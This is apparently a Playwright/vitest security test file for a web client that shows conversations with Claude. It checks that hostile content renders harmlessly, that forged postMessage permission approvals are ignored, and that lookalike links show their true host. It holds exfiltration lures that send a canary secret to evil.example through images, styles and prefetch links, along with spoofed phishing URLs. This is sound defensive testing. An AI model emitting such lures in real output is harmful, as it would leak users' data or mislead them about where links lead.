import { describe, expect, it } from "vitest";
import { corpus } from "../browser/support/corpus";
import { openEditorView } from "../browser/support/editorView";
import { FakeHost } from "../browser/support/fakeHost";
import {
  accepted,
  block,
  conversationId,
  opened,
  started,
  text,
} from "../browser/support/fixtures";
import { usePageBench } from "../browser/support/pageBench";
import { builtPage } from "../browser/support/pageBuild";
import { watchTrespasses } from "../browser/support/trespasses";
import type { Page } from "playwright-core";
import {
  answerHostile,
  hostileContents,
  hostileFrame,
  hostileQueue,
  hostileTurn,
} from "./support/hostileStory";
import { requested, resolved } from "../browser/support/fixtures";
import { allowedTags, reportOf } from "./support/pageReport";

// The bench itself fails a test in which there was a dialog, an uncaught error, a request to another
// origin or a report of the policy.
const bench = usePageBench();
const canary = "the end of the hostile content";

async function expectHarmless(page: Page): Promise<void> {
  const report = await reportOf(page);
  expect(report.isPwned).toBe(false);
  expect(report.openLinks).toBe(0);
  expect(report.attributes.filter((name) => name !== "id")).toEqual([]);
  expect(report.hrefs.filter((href) => !/^(https?:|mailto:)/u.test(href))).toEqual([]);
  expect(report.tags.filter((tag) => !allowedTags.has(tag))).toEqual([]);
}

async function openAll(page: Page): Promise<void> {
  await page.evaluate(
    "document.querySelectorAll('.tool-line[aria-expanded=false]').forEach((line) => line.click())",
  );
  await page.locator(".thinking-text").last().waitFor();
}

describe("R56 no script and no HTML comes from content", () => {
  it("has a control: what the page would do if content were markup is seen", async () => {
    await bench.openConversation();
    const page = await (await bench.browser.newContext()).newPage();
    const trespasses = watchTrespasses(page, bench.origin);
    await page.goto(bench.origin);
    await page.getByText("Claude works in my-app").waitFor();
    await page.evaluate(`(() => {
      const element = document.createElement("video");
      element.src = "https://evil.example/control";
      const pre = document.createElement("pre");
      pre.append(element);
      document.querySelector("#app").append(pre);
    })()`);
    await expect.poll(() => trespasses.join()).toContain("policy");
    const report = await reportOf(page);
    expect(report.attributes).toEqual(["src"]);
    expect(report.tags.filter((tag) => !allowedTags.has(tag))).toEqual(["video"]);
    await page.context().close();
  });

  it.each([0, 1, 2])(
    "in all fields of a turn, at once and streamed unit by unit (part %i of 3)",
    async (part) => {
      bench.host.emit(...opened());
      await bench.open();
      await bench.composer.waitFor();
      const own = corpus.filter((_, index) => index % 3 === part);
      for (const evil of own) bench.host.emit(...hostileTurn(evil));
      bench.host.emit(accepted(canary));
      await bench.page.locator(".bubble", { hasText: canary }).waitFor();
      await openAll(bench.page);
      await expectHarmless(bench.page);
      const shown = await bench.page.locator("#app").textContent();
      for (const evil of own.filter((line) => !/[\u001b\n]/u.test(line))) {
        expect(shown).toContain(evil);
      }
    },
  );

  it("in every card that asks for permission", async () => {
    bench.host.emit(...opened());
    await bench.open();
    await bench.composer.waitFor();
    for (const [index, evil] of corpus.entries()) {
      const contents = hostileContents(evil);
      const content = contents[index % contents.length];
      if (content === undefined) continue;
      bench.host.emit(
        requested(`p${index}`, content, {
          toolName: evil,
          blockedPath: evil,
          grants: { conversation: [evil], always: [evil] },
        }),
      );
      await bench.page.locator(".permission").waitFor();
      await expectHarmless(bench.page);
      bench.host.emit(resolved(`p${index}`, "denied"));
      await bench.page.locator(".permission").waitFor({ state: "detached" });
    }
  });

  it("in names of folders, models, branches and devices, in troubles, the queue and lists", async () => {
    const [image] = corpus;
    for (const evil of [corpus.slice(0, 14).join(" "), corpus.slice(14).join(" "), image ?? ""]) {
      const name = evil.slice(0, 800);
      bench.host.answers = answerHostile(bench.host, name);
      bench.host.emit(...hostileFrame(name), ...hostileQueue(name));
    }
    await bench.open();
    await bench.composer.waitFor();
    await expectHarmless(bench.page);
    await bench.page.getByRole("button", { name: "Open conversations" }).tap();
    const sheet = bench.page.getByRole("dialog");
    await sheet.locator(".conversation-branch").first().waitFor();
    await sheet.getByRole("searchbox").fill("x");
    await sheet.getByText("Found").waitFor();
    await expectHarmless(bench.page);
    await sheet.getByRole("button", { name: "Close" }).tap();
    await bench.page.locator(".pause-line-text, .queue-strip").first().tap();
    await bench.page.locator(".queue-item").first().waitFor();
    await expectHarmless(bench.page);
    await bench.page.getByRole("dialog").getByRole("button", { name: "Close" }).tap();
    await bench.composer.pressSequentially("@x");
    await bench.page.getByRole("option").first().waitFor();
    await expectHarmless(bench.page);
    await bench.composer.fill("");
    await bench.composer.pressSequentially("/ev");
    await bench.page.getByRole("option").first().waitFor();
    await expectHarmless(bench.page);
  });
});

describe("R56 no script and no HTML comes from content, in the sheets of the menu", () => {
  const sheet = () => bench.page.getByRole("dialog");

  async function openFromMenu(name: string): Promise<void> {
    await bench.page.getByRole("button", { name: "Menu", exact: true }).tap();
    await bench.page.locator(".menu-item", { hasText: name }).first().tap();
    await sheet().waitFor();
  }

  async function close(): Promise<void> {
    await sheet().getByRole("button", { name: "Close" }).tap();
    await sheet().waitFor({ state: "detached" });
  }

  it.each([0, 1])(
    "names of changed files, branches, devices and plans, what is searched for (part %i of 2)",
    async (part) => {
      const evil = corpus
        .filter((_, index) => index % 2 === part)
        .join(" ")
        .slice(0, 1_500);
      bench.host.answers = answerHostile(bench.host, evil);
      bench.host.emit(...hostileFrame(evil), ...hostileTurn(evil));
      bench.host.emit({
        type: "conversation.measured",
        conversationId,
        context: { usedTokens: 150_000, windowTokens: 200_000 },
      });
      await bench.open();
      await bench.composer.waitFor();
      await openFromMenu("Changes");
      await sheet().locator(".change-row").last().waitFor();
      await expectHarmless(bench.page);
      await sheet().locator(".change-row").nth(1).tap();
      await sheet().locator(".change-view .diff").waitFor();
      await expectHarmless(bench.page);
      await close();
      await openFromMenu("Usage");
      await sheet().locator(".usage-window").waitFor();
      await expectHarmless(bench.page);
      await close();
      await openFromMenu("Devices");
      await sheet().locator(".device-item").waitFor();
      await expectHarmless(bench.page);
      await close();
      await openFromMenu("Settings");
      await expectHarmless(bench.page);
      await close();
      await bench.page.keyboard.press("Control+f");
      await bench.page.locator(".find-field").fill(evil.slice(0, 20));
      await bench.page.locator(".find-count", { hasText: /\d/u }).waitFor();
      await expectHarmless(bench.page);
      expect(await bench.page.title()).toContain(evil.slice(0, 20).trim());
    },
  );
});

describe("R57 nothing leaves by itself", () => {
  const secret = "canary-secret";
  const lures = [
    `![a](https://evil.example/?q=${secret})`,
    `![a][r]\n\n[r]: https://evil.example/?q=${secret}`,
    `<img srcset="https://evil.example/${secret} 1x">`,
    `<div style="background:url(https://evil.example/${secret})">`,
    `<video poster="https://evil.example/${secret}" autoplay src="https://evil.example/v">`,
    `<link rel="icon" href="https://evil.example/${secret}">`,
    `<link rel="prefetch" href="https://evil.example/${secret}">`,
    `<link rel="dns-prefetch" href="//${secret}.evil.example">`,
    `<link rel="preconnect" href="https://${secret}.evil.example">`,
    `https://evil.example/${secret}`,
  ];

  it("to a picture, a style, a video, an icon or a name, and a link only on a tap", async () => {
    await bench.openConversation();
    const seen: string[] = [];
    bench.page.context().on("request", (request) => seen.push(request.url()));
    const turn = crypto.randomUUID();
    bench.host.emit(accepted("go", turn), started(turn));
    for (const [index, lure] of lures.entries()) {
      bench.host.emit(block(turn, text(`t${index}`, lure)));
    }
    bench.host.emit(block(turn, text("end", canary)));
    await bench.page.getByText(canary).waitFor();
    const links = bench.page.locator(".answer a");
    expect(await links.count()).toBe(3);
    for (const link of await links.all()) {
      expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
      expect(await link.getAttribute("target")).toBe("_blank");
      expect(await link.innerText()).toContain("evil.example");
    }
    await links.first().hover();
    await links.first().focus();
    expect(seen.filter((url) => url.includes("evil"))).toEqual([]);
    // The style sheet, two icons and the manifest: the page's own.
    expect(await bench.page.locator("head link").count()).toBe(4);
    // The control: a tap is what opens it, in a page of its own that does not know who sent it.
    const popup = bench.page.context().waitForEvent("page");
    await bench.page
      .context()
      .route("https://evil.example/**", (route) =>
        route.fulfill({ contentType: "text/html", body: "<p>there</p>" }),
      );
    await links.first().tap();
    const other = await popup;
    await other.getByText("there").waitFor();
    expect(await other.evaluate("document.referrer + String(window.opener)")).toBe("null");
    await other.close();
  });

  it("names the host that a link really leads to", async () => {
    await bench.openConversation();
    const turn = crypto.randomUUID();
    bench.host.emit(
      accepted("go", turn),
      started(turn),
      block(
        turn,
        text(
          "t",
          "[https://github.com/login](https://evil.example/a)\n\n[help](https://github.com@evil.example/b)\n\n[x](https://gіthub.com/)\n\n[https://github.com/?evil.example](https://evil.example/d)\n\nhttps://evil.example/e",
        ),
      ),
    );
    const links = bench.page.locator(".answer a");
    await links.nth(4).waitFor();
    const hosts = await bench.page.locator(".answer a .link-host").allInnerTexts();
    expect(hosts).toEqual(["evil.example", "evil.example", "xn--gthub-n2e.com", "evil.example"]);
  });
});

describe("R59 there is no preview of files", () => {
  it("and no address that would serve one", async () => {
    await bench.openConversation();
    const statuses = await bench.page.evaluate<number[]>(`Promise.all(
      ["/api/file?path=evil.html", "/file/evil.html", "/assets/evil.html", "/evil.svg"].map(
        async (path) => (await fetch(path)).status))`);
    expect(statuses).toEqual([404, 404, 404, 404]);
    expect((await reportOf(bench.page)).tags).not.toContain("iframe");
    // The control: what is there is served.
    expect(await bench.page.evaluate("fetch('/').then(({ status }) => status)")).toBe(200);
  });
});

describe("R62 messages from other frames are nobody's", () => {
  it("in the editor: the corpus does nothing, and a foreign frame is not heard", async () => {
    const host = new FakeHost(await builtPage(), { isEditor: true, language: "en" });
    const origin = await host.start();
    await bench.openConversation();
    host.emit(...opened());
    const page = await openEditorView(bench.browser, host, origin, { theme: "dark", width: 400 });
    const trespasses = watchTrespasses(page, origin);
    try {
      await page.getByText("Claude works in my-app").waitFor();
      for (const evil of corpus.slice(0, 8)) host.emit(...hostileTurn(evil));
      host.emit(requested("p1", { kind: "command", command: "ls", description: null }));
      await page.locator(".permission").waitFor();
      await openAll(page);
      await expectHarmless(page);
      const forged = { seq: host.state.queue.version + 100_000, at: 0, event: resolved("p1") };
      await page.evaluate(`(() => {
        const say = (data, origin, source) =>
          window.dispatchEvent(new MessageEvent("message", { data, origin, source }));
        const forged = ${JSON.stringify({ type: "event", envelope: forged })};
        for (const origin of ["https://evil.example", "null", ""]) {
          say(forged, origin, null);
          say({ type: "approve" }, origin, null);
          say({ type: "bye", code: 4401, reason: "" }, origin, null);
        }
        say({ type: "approve" }, window.origin, window);
      })()`);
      host.emit(accepted(canary));
      await page.getByText(canary).first().waitFor();
      // Neither answered nor disconnected.
      expect(await page.locator(".permission").count()).toBe(1);
      expect(host.received.filter(({ type }) => type === "permission.answer")).toEqual([]);
      expect(host.received.filter(({ type }) => type === "hello")).toHaveLength(1);
      // The control: the same from the editor itself is heard.
      host.emit(resolved("p1"));
      await page.locator(".permission").waitFor({ state: "detached" });
      expect(trespasses).toEqual([]);
    } finally {
      await page.context().close();
      await host.stop();
    }
  });

  it("on the phone: no message of a window is heard at all", async () => {
    await bench.openConversation();
    bench.host.emit(requested("p1", { kind: "command", command: "ls", description: null }));
    await bench.allowButton.waitFor();
    await bench.page.evaluate(
      "window.postMessage({ type: 'approve', permissionId: 'p1' }, window.origin)",
    );
    bench.host.emit(accepted(canary));
    await bench.page.getByText(canary).first().waitFor();
    expect(bench.host.received.filter(({ type }) => type === "permission.answer")).toEqual([]);
  });
});
